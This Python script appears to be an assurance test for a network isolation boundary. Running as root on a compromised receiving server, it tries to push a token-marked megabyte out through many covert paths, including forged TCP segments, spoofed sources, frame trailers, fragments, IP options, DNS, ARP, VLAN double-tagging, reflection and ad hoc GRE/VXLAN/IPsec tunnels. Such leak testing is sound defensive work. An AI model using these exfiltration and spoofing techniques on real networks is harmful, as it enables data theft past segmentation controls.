"""Runs as root on a seized receiving server: tries every way to carry a marked megabyte outside.

Standard library and packets.py beside it only. Whatever it sends holds the token of the command line
and, behind it, one byte that says by which way: whoever finds it on another wire knows what leaked.
Prints what each way handed to the kernel as JSON. TCP header fields as carriers are not tried: those
are open by design (ASSURANCE.md).
"""

import argparse
import contextlib
import json
import random
import socket
import struct
import sys
import threading
import time

from packets import EVERYBODY, Cable, MissingError, Way, icmp, ip, ip4, ip6, neighbour, tcp, udp

TCP_PORTS = (22, 25, 53, 80, 443, 7601, 8080, 40000)
UDP_PORTS = (53, 67, 69, 123, 161, 443, 500, 514, 4500, 7601, 33434)
ODD_PROTOCOLS = (0, 2, 4, 41, 46, 47, 50, 51, 89, 94, 103, 112, 132, 136, 253, 254, 255)


class Attack:
    """The seized machine's place on its wires, and the ways; each method is one round of a way."""

    def __init__(self, words):
        self.__dict__.update(vars(words))
        self.cable = Cable(words.interface)
        self.mac = neighbour(words.gateway)
        self.others = []
        for entry in words.by:
            interface, address = entry.split("=")
            self.others.append((Cable(interface), neighbour(address)))
        self.flow = (40000, 1, 1)  # the hospital's port, our next number, and what we have of it
        self.plain = socket.socket(type=socket.SOCK_DGRAM)
        self.plain.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)

    def packet(self, way, protocol, body, src=None, dst=None, **shape):
        """Put an IPv4 packet on the gateway's wire, from ourselves to the hospital unless told."""
        whole = ip4(protocol, body, src or self.own, dst or self.peer, **shape)
        self.cable.frame(way, self.mac, 0x0800, whole)

    def segment(self, body, *, flags=0x18):
        """Return a segment of the hospital's newest connection."""
        sport, seq, ack = self.flow
        return tcp(body, sport, self.port, flags=flags, seq=seq, ack=ack)

    def watch(self):
        """Follow the hospital's newest segment, so that forged ones fit its connection."""
        tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        tap.bind((self.interface, 0x0800))
        peer = socket.inet_aton(self.peer)
        while True:
            frame = tap.recv(65600)
            if frame[23] != 6 or frame[26:30] != peer or not frame[47] & 0x10:
                continue
            sport, dport, seq, ack = struct.unpack_from("!HHII", frame, 34)
            if dport == self.port:
                carried = struct.unpack_from("!H", frame, 16)[0] - 20 - (frame[46] >> 4) * 4
                self.flow = (sport, ack, (seq + carried) & 0xFFFFFFFF)

    def serve(self, way):
        """Answer whoever connects: our kernel then sends, and sends again, what it was given."""
        server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind((self.own, self.port))
        server.listen(64)

        def answer(link):
            link.settimeout(0.2)
            link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for size in (17, 34, 40, 100, 1448, 16384):
                if way.bytes < self.limit:
                    way.hand(link.send, way.fill(size))
            way.hand(link.send, way.mark, socket.MSG_OOB)
            time.sleep(3)
            link.close()

        while True:
            link, _ = server.accept()
            threading.Thread(target=answer, args=(link,), daemon=True).start()

    def replies(self, _way):
        """Wait: the replies go on beside all other ways."""
        time.sleep(0.2)

    def segments(self, way):
        for flags in (0x18, 0x10, 0x12, 0x19, 0x14, 0x38, 0x00):
            for size in (17, 40, 1000):
                self.packet(way, 6, self.segment(way.fill(size), flags=flags))

    def trailers(self, way):
        """Hang bytes behind the end of a bare acknowledgement, which passes: the frame is longer."""
        bare = ip4(6, self.segment(b"", flags=0x10), self.own, self.peer)
        for size in (20, 400, 1400):
            self.cable.frame(way, self.mac, 0x0800, bare + way.fill(size))

    def new_tcp(self, way):
        for dport in TCP_PORTS:
            for sport in (self.port, 53, 443, random.randrange(1024, 65536)):
                for flags in (0x02, 0x18):
                    self.packet(way, 6, tcp(way.fill(600), dport, sport, flags=flags))

    def new_udp(self, way):
        for dport in (*UDP_PORTS, random.randrange(1, 65536)):
            way.hand(self.plain.sendto, way.fill(1400), (self.peer, dport))
            self.packet(way, 17, udp(way.fill(1400), dport))

    def names(self, way):
        query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0"
        query += (b"\x22" + way.fill(34)) * 5 + b"\0\0\x10\0\x01"
        for server in (self.peer, self.gateway, self.outer, self.monitor):
            for port in (53, 5353, 853):
                way.hand(self.plain.sendto, query, (server, port))

    def echo(self, way):
        for kind in (8, 0, 13, 14, 17, 42):
            self.packet(way, 1, icmp(kind, 0, way.fill(1400)))

    def icmp_errors(self, way):
        """Quote the hospital's own open connection: a tracker calls such an error related."""
        sport, seq, ack = self.flow
        quoted = tcp(b"", self.port, sport, seq=ack, ack=seq)
        quote = ip4(6, quoted + way.fill(500), self.peer, self.own)
        for kind in (0x300, 0x301, 0x303, 0x304, 0x30D, 0x400, 0x501, 0xB00, 0xC00):
            self.packet(way, 1, icmp(kind >> 8, kind & 255, quote))

    def ipv6(self, way):
        own, many = "fe80::5054:ff:fe77:202", b"\x33\x33\0\0\0\x01"
        body = way.fill(1000)
        for dst, mac in (
            (self.peer6, self.mac), ("fe80::1", self.mac), ("ff02::1", many), ("ff05::1", many),
            (f"::ffff:{self.peer}", self.mac), (f"2002:{self.peer.replace('.', ':')}::1", self.mac),
        ):  # fmt: skip
            for protocol, data in (
                (17, udp(body, 53)),
                (6, tcp(body, 7601, flags=2)),
                (58, icmp(128, 0, body)),
                (58, icmp(134, 0, b"\0" * 8 + b"\x1f\x7e" + body)),
                (58, icmp(1, 0, body)),
                (44, b"\x11\0\0\x01\0\0\0\x07" + udp(body, 53)),
                (0, b"\x11\x04\x1e\x22" + way.fill(34) + b"\x01\0" + udp(body, 53)),
                (43, b"\x11\x03\0\x01\0\0\0\0" + way.fill(24) + udp(body, 53)),
            ):
                src = own if dst.startswith(("fe", "ff")) else "fd77:2::2"
                self.cable.frame(way, mac, 0x86DD, ip6(protocol, data, src, dst))

    def fragments(self, way):
        more, whole = 0x2000, udp(way.fill(2400), 7601)
        ident = random.getrandbits(16)
        self.packet(way, 17, whole[:1208], offset=more, ident=ident)
        self.packet(way, 17, whole[1208:], offset=151, ident=ident)
        self.packet(way, 17, way.fill(1000), offset=more | random.randrange(1, 8000))
        self.packet(way, 1, way.fill(24), offset=8189)
        for size, tiny in ((8, way.mark[:16]), (24, way.fill(48))):
            ident, body = random.getrandbits(16), self.segment(tiny)
            for start in range(0, len(body), size):
                last = start + size >= len(body)
                self.packet(way, 6, body[start : start + size],
                            offset=start // 8 | (0 if last else more), ident=ident)  # fmt: skip
        # A bare acknowledgement first, then the same place again with something in it.
        ident, bare = random.getrandbits(16), self.segment(b"", flags=0x10)
        self.packet(way, 6, bare + b"\0" * 4, offset=more, ident=ident)
        self.packet(way, 6, way.fill(64), offset=2, ident=ident)

    def options(self, way):
        hop = socket.inet_aton(self.peer)
        for shape, dst in (
            (b"\x07\x27\x04" + way.fill(36) + b"\0", self.peer),
            (b"\x44\x28\x05\x00" + way.fill(36), self.peer),
            (b"\x83\x27\x04" + hop + way.fill(32) + b"\0", self.gateway),
            (b"\x89\x27\x04" + hop + way.fill(32) + b"\0", self.gateway),
            (b"\x9e\x28" + way.fill(38), self.peer),
            (b"\x82\x28" + way.fill(38), self.peer),
            (b"\x94\x28" + way.fill(38), self.peer),
            (b"\x01" * 3 + way.fill(37), self.peer),
        ):
            self.packet(way, 6, self.segment(b"", flags=0x10), dst=dst, options=shape)
            self.packet(way, 17, udp(b"", 7601), dst=dst, options=shape)
            self.packet(way, 1, icmp(8, 0, b""), dst=dst, options=shape)

    def protocols(self, way):
        inner = ip4(17, udp(way.fill(1000), 7601), self.own, self.peer)
        six = ip6(17, udp(way.fill(1000), 7601), "fd77:2::2", self.peer6)
        for number in ODD_PROTOCOLS:
            head = {4: inner, 41: six, 47: b"\0\0\x08\0" + inner, 51: b"\x11\x04\0\0" + b"\0" * 20}
            self.packet(way, number, head.get(number, struct.pack("!II", 256, 1)) + way.fill(300))

    def forged_source(self, way):
        """Be somebody else: in the hospital's network, the gateway, core, nobody."""
        near = self.peer.rsplit(".", 1)[0]
        for src in (self.peer, f"{near}.3", self.outer, self.gateway, self.core, self.monitor,
                    "127.0.0.1", "0.0.0.0", "255.255.255.255"):  # fmt: skip
            self.packet(way, 17, udp(way.fill(900), 7601), src=src)
            self.packet(way, 6, self.segment(way.fill(900)), src=src)
            self.packet(way, 1, icmp(8, 0, way.fill(900)), src=src)

    def reflection(self, way):
        """Let the gateway itself answer the hospital and quote us: echo, reset, errors."""
        nobody = self.peer.rsplit(".", 1)[0] + ".5"
        for src in (self.peer, self.own):
            for dst in (self.gateway, self.outer):
                self.packet(way, 1, icmp(8, 0, way.fill(900)), src=src, dst=dst)
                self.packet(way, 17, udp(way.fill(900), 33434), src=src, dst=dst)
                self.packet(way, 6, tcp(way.fill(900), 1, flags=2), src=src, dst=dst)
            self.packet(way, 17, udp(way.fill(900), 7601), src=src, ttl=1)
            self.packet(way, 17, udp(way.fill(900), 7601), src=src, dst=nobody)
            self.packet(way, 99, way.fill(900), src=src, dst=self.gateway)
        self.packet(way, 6, self.segment(way.fill(900)), ttl=1)

    def arp(self, way):
        own, peer = socket.inet_aton(self.own), socket.inet_aton(self.peer)
        for operation in (1, 2, 3, 8):
            for sender, target in ((own, peer), (peer, peer), (peer, own)):
                body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
                body += self.cable.mac + sender + b"\0" * 6 + target
                for mac in (EVERYBODY, self.mac):
                    self.cable.frame(way, mac, 0x0806, body + way.fill(18))
                    self.cable.frame(way, mac, 0x0806, body + way.fill(1000))
        self.cable.frame(way, EVERYBODY, 0x0806, b"\0\x01\x08\0\x06\x04\0\x01" + way.fill(52))
        self.cable.frame(way, EVERYBODY, 0x8035, way.fill(46))

    def vlan(self, way):
        body = struct.pack("!H", 0x0800) + ip4(17, udp(way.fill(1000), 7601), self.own, self.peer)
        for number in (0, 1, 2, 100, 4094):
            tag = struct.pack("!H", number)
            for mac in (self.mac, EVERYBODY):
                self.cable.frame(way, mac, 0x8100, tag + body)
                self.cable.frame(way, mac, 0x88A8, tag + b"\x81\0" + tag + body)
                self.cable.frame(way, mac, 0x8100, tag + b"\x81\0" + tag + body)

    def ethertypes(self, way):
        inner = ip4(17, udp(way.fill(600), 7601), self.own, self.peer)
        lldp = b"\x02\x07\x04" + self.cable.mac + b"\x04\x23\x05" + way.fill(34) + b"\x06\x02\0\x78"
        bridges, nearest = bytes.fromhex("0180c2000000"), bytes.fromhex("0180c200000e")
        self.cable.frame(way, nearest, 0x88CC, lldp + b"\xfe\x26\0\0\0\0" + way.fill(34) + b"\0\0")
        self.cable.frame(way, bridges, 200, b"\x42\x42\x03" + way.fill(197))
        for kind, head in (
            (0x88B5, b""), (0x8847, b"\0\0\x11\x40"), (0x8848, b"\0\0\x11\x40"), (0x888E, b"\x02\x03"),
            (0x8863, b"\x11\x09\0\0"), (0x8864, b"\x11\0\0\x01\0\x21"), (0x88E5, b"\0" * 8), (0x9000, b""),
            (0x0842, b""), (0x88F7, b""), (0x8906, b""), (0x22F3, b""), (0x8137, b""), (0x86DD, b""),
        ):  # fmt: skip
            for mac in (self.mac, EVERYBODY):
                self.cable.frame(way, mac, kind, head + inner + way.fill(100))

    def broadcast(self, way):
        """Ask everybody on the wire; speak to the hospital's card by name, and as another card."""
        peer_mac = bytes.fromhex(self.peer_mac.replace(":", ""))
        for dst in ("255.255.255.255", self.peer.rsplit(".", 1)[0] + ".7",
                    self.gateway.rsplit(".", 1)[0] + ".7", "224.0.0.1", "224.0.0.251", "239.7.7.7"):  # fmt: skip
            body = ip4(17, udp(way.fill(1000), 7601), self.own, dst)
            for mac in (EVERYBODY, b"\x01\0\x5e\0\0\x01", self.mac):
                self.cable.frame(way, mac, 0x0800, body)
        body = ip4(17, udp(way.fill(1000), 7601), self.own, self.peer)
        self.cable.frame(way, peer_mac, 0x0800, body)
        self.cable.frame(way, self.mac, 0x0800, body, src=b"\x02" + random.randbytes(5))

    def other_wires(self, way):
        """Go round: by the administration network and by core, to the hospital."""
        for cable, mac in self.others:
            for protocol, body in ((17, udp(way.fill(1000), 7601)), (6, self.segment(way.fill(1000))),
                                   (1, icmp(8, 0, way.fill(1000)))):  # fmt: skip
                for src in (self.own, self.peer):
                    cable.frame(way, mac, 0x0800, ip4(protocol, body, src, self.peer))

    def tunnel(self, way, kind, *words):
        name = f"sekisho-{kind}"
        if way.packets == 0:
            ip("link", "add", name, "type", kind, "remote", self.peer, "local", self.own, *words)
            ip("address", "add", "192.0.2.1/30", "dev", name)
            ip("link", "set", name, "up")
            if kind == "vxlan":
                ip("neigh", "add", "192.0.2.2", "lladdr", "02:00:00:00:00:02", "dev", name)
        way.hand(self.plain.sendto, way.fill(1000), ("192.0.2.2", 7601))

    def ipip(self, way):
        self.tunnel(way, "ipip")

    def gre(self, way):
        self.tunnel(way, "gre")

    def vxlan(self, way):
        self.tunnel(way, "vxlan", "id", "7", "dstport", "4789", "dev", self.interface)

    def ipsec(self, way):
        """Keep associations of our own: nothing but an arrangement with the hospital is needed."""
        ends = ("src", self.own, "dst", self.peer)
        for number, mode in ((1, "transport"), (2, "tunnel")):
            if way.packets < 2:
                ip("xfrm", "state", "add", *ends, "proto", "esp", "spi", f"0x5ec{number}", "reqid",
                   str(number), "mode", mode, "enc", "ecb(cipher_null)", "", "auth", "hmac(sha256)",
                   "0x" + "5e" * 32)  # fmt: skip
                ip("xfrm", "policy", "add", *ends, "proto", "udp", "dport", f"999{number}", "dir",
                   "out", "tmpl", *ends, "proto", "esp", "reqid", str(number), "mode", mode)  # fmt: skip
            way.hand(self.plain.sendto, way.fill(1000), (self.peer, 9990 + number))

    def clean(self):
        """Take the tunnels and associations of ours away again."""
        for kind in ("ipip", "gre", "vxlan"):
            with contextlib.suppress(MissingError):
                ip("link", "del", f"sekisho-{kind}")
        ends = ("src", self.own, "dst", self.peer)
        for number in (1, 2):
            with contextlib.suppress(MissingError):
                ip("xfrm", "policy", "delete", *ends, "proto", "udp", "dport", f"999{number}",
                   "dir", "out")  # fmt: skip
            with contextlib.suppress(MissingError):
                ip("xfrm", "state", "delete", "src", self.own, "dst", self.peer, "proto", "esp",
                   "spi", f"0x5ec{number}")  # fmt: skip


#: Every way in its order; its number is its place. The rest leaves by another wire than the gateway's.
WAYS = ("replies", "segments", "trailers", "new_tcp", "new_udp", "names", "echo", "icmp_errors", "ipv6",
        "fragments", "options", "protocols", "forged_source", "reflection", "arp", "vlan", "ethertypes",
        "broadcast", "ipip", "gre", "vxlan", "ipsec", "other_wires")  # fmt: skip
ELSEWHERE = ("other_wires",)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("token", type=bytes.fromhex)
    names = "own interface peer peer6 peer-mac gateway outer core monitor"
    for name in names.split():
        parser.add_argument(f"--{name}", required=True)
    parser.add_argument("--by", action="append", default=[], metavar="INTERFACE=NEIGHBOUR")
    parser.add_argument("--port", type=int, default=7601)
    parser.add_argument("--seconds", type=float, default=2.5, help="for each way")
    parser.add_argument("--limit", type=int, default=1 << 20, help="bytes a way")
    words = parser.parse_args()
    attack = Attack(words)
    ways = {name: Way(number, words.token) for number, name in enumerate(WAYS, 1)}
    threading.Thread(target=attack.watch, daemon=True).start()
    threading.Thread(target=attack.serve, args=(ways["replies"],), daemon=True).start()
    try:
        for name, way in ways.items():
            ends = time.monotonic() + words.seconds
            while True:
                try:
                    getattr(attack, name)(way)
                except MissingError as bad:
                    way.errors[f"not here: {bad}"] += 1
                    break
                if time.monotonic() > ends or (way.bytes >= words.limit and name != "replies"):
                    break
    finally:
        attack.clean()
    json.dump({
        name: {"number": way.number, "packets": way.packets, "bytes": way.bytes,
               "gateway's wire": name not in ELSEWHERE, "errors": way.errors}
        for name, way in ways.items()
    }, sys.stdout)  # fmt: skip
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
